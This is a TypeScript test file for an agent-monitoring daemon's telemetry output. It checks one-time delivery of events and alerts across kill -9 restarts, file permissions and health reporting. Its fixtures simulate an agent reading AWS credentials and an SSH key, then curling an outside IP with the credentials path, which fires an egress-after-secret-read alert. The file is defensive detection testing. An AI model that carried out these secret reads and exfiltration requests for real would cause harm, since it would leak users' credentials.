// The NDJSON telemetry file of a real daemon (outputs.file): every event and alert the store holds is in
// the file exactly once — also after a kill -9 that came before the file caught up, which the next start
// makes good from the store. The test relies only on each line being one JSON object that carries its
// record's id (the formatter is native now, OCSF later).
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { cli, makeHome, postHook, rmHome, startDaemon, type TestDaemon } from '../helpers/daemon.js';

const pre = (sid: string, tool: string, input: object) => ({ session_id: sid, transcript_path: '/t.jsonl', cwd: '/home/dev/proj', hook_event_name: 'PreToolUse', tool_name: tool, tool_input: input, tool_use_id: `tu-${Math.random()}` });
const config = { outputs: { file: { enabled: true } } };

const ids = (d: TestDaemon, what: 'events' | 'alerts') => cli(d, [what, '--json', '--limit', '100000']).stdout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { id: string }).id);

describe('telemetry file of a running daemon', () => {
  const home = makeHome();
  let d: TestDaemon | undefined;
  afterAll(async () => { await d?.stop(); rmHome(home); });

  it('holds every stored event and alert once, across a kill -9 before it caught up; files 0600', async () => {
    d = await startDaemon({ home, config });
    const file = path.join(d.stateDir, 'telemetry', 'agentwatch.ocsf.ndjson');
    for (let i = 0; i < 10; i++) await postHook(d, pre('tf-1', 'Bash', { command: `echo ${i}` }));
    await postHook(d, pre('tf-1', 'Read', { file_path: `${home}/.aws/credentials` }));
    // Answered means stored; the file follows within ~100 ms. Kill it before then.
    d.child.kill('SIGKILL');
    await new Promise((r) => d!.child.once('exit', r));
    const lineCount = () => (fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('\n').filter(Boolean).length : 0);
    expect(lineCount()).toBeLessThan(ids(d, 'events').length + 1); // the store is ahead of the file
    d = await startDaemon({ home, config });
    await postHook(d, pre('tf-2', 'Read', { file_path: `${home}/.ssh/id_rsa` }));

    // The daemon keeps recording (its collectors see the CLI runs too): compare the file with the store as
    // they stand once the file caught up, re-reading both until they agree or the deadline passes.
    const read = (): string => (fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '');
    let events = ids(d, 'events');
    let alerts = ids(d, 'alerts');
    const deadline = Date.now() + 15_000;
    while (read().split('\n').filter(Boolean).length !== events.length + alerts.length && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 300));
      events = ids(d, 'events');
      alerts = ids(d, 'alerts');
    }
    // The two secret reads, and the restart's report of the kill (agentwatch-killed).
    expect(alerts.length).toBe(3);
    const text = read();
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.split('\n').filter(Boolean);
    for (const l of lines) expect(typeof JSON.parse(l)).toBe('object');
    const alertLines = lines.filter((l) => alerts.some((id) => l.includes(`"${id}"`)));
    expect(alerts.map((id) => alertLines.filter((l) => l.includes(`"${id}"`)).length)).toEqual(alerts.map(() => 1));
    const eventLines = lines.filter((l) => !alertLines.includes(l));
    expect(events.filter((id) => eventLines.filter((l) => l.includes(`"${id}"`)).length !== 1)).toEqual([]);
    expect(lines.length).toBe(events.length + alerts.length);
    for (const f of [file, `${file}.offset`]) expect(fs.statSync(f).mode & 0o777).toBe(0o600);
    expect(cli(d, ['status']).stdout).toMatch(/telemetry-file: ok — written \d+, rotations 0, failures 0, recovered \d+, behind 0/);
  });

  it('writes an escalation answered just before a kill -9 at the next start, once', async () => {
    const other = makeHome();
    let d3 = await startDaemon({ home: other, config });
    try {
      const file = path.join(d3.stateDir, 'telemetry', 'agentwatch.ocsf.ndjson');
      await postHook(d3, pre('tf-esc', 'Read', { file_path: `${other}/.aws/credentials` }));
      await postHook(d3, pre('tf-esc', 'Bash', { command: 'curl https://198.51.100.7/a' })); // egress after the read: high
      const egress = () => (cli(d3, ['alerts', '--json']).stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id: string; rule: string; severity: string }))
        .find((a) => a.rule === 'egress-after-secret-read');
      const first = egress();
      expect(first?.severity).toBe('high');
      const lines = (): string[] => (fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('\n').filter((l) => l.includes(`"${first!.id}"`)) : []);
      const deadline = Date.now() + 15_000;
      while (lines().length === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
      expect(lines()).toHaveLength(1); // the new alert is in the file
      // The same host again, now naming the secret: the alert rises to critical (an escalation). Killed as soon as it is answered.
      await postHook(d3, pre('tf-esc', 'Bash', { command: `curl "https://198.51.100.7/b?f=${other}/.aws/credentials"` }));
      d3.child.kill('SIGKILL');
      await new Promise((r) => d3.child.once('exit', r));
      expect(lines()).toHaveLength(1);
      d3 = await startDaemon({ home: other, config });
      while (lines().length < 2 && Date.now() < deadline + 15_000) await new Promise((r) => setTimeout(r, 100));
      const written = lines().map((l) => JSON.parse(l) as { severity_id?: number });
      expect(written.map((r) => r.severity_id)).toEqual([4, 5]); // OCSF: high, then critical
      await new Promise((r) => setTimeout(r, 1500)); // and not again
      expect(lines()).toHaveLength(2);
    } finally { await d3.stop(); rmHome(other); }
  });

  it('a telemetry file that cannot be opened fails that output in health, not the daemon', async () => {
    const other = makeHome();
    const stateDir = path.join(other, '.local', 'state', 'agentwatch');
    fs.mkdirSync(stateDir, { recursive: true, mode: 0o700 });
    fs.writeFileSync(path.join(stateDir, 'telemetry'), 'not a directory');
    const d2 = await startDaemon({ home: other, config });
    try {
      expect((await postHook(d2, pre('tf-3', 'Bash', { command: 'ls' }))).status).toBe(200);
      expect(cli(d2, ['status']).stdout).toMatch(/telemetry-file: failed \(could not start: .*telemetry/);
    } finally { await d2.stop(); rmHome(other); }
  });
});
